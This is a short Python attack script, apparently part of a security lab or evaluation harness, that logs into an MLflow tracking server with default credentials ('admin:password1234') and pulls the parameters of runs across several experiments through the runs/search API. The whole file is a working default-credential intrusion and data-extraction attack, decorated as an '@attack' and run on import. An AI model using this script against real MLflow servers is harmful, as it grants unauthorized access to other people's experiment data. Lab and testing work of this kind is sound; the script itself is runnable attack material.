"""Ask the public MLflow for its runs, with the login that its documentation gives."""

import base64
import json
import urllib.request
from pathlib import Path

from scripts.labs.attacking import attack
from scripts.labs.trial import Refused

LOGIN = base64.b64encode(b"admin:password1234").decode()


@attack
def main() -> str:
    """The parameters of every run of the first experiments."""
    address = Path("given/address.txt").read_text().strip()
    if not address.startswith("http://"):
        raise Refused(address)
    request = urllib.request.Request(
        f"{address}/api/2.0/mlflow/runs/search",
        json.dumps({"experiment_ids": [str(number) for number in range(9)]}).encode(),
        {"Authorization": f"Basic {LOGIN}", "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=30) as answer:
        return str(answer.read().decode())


main()
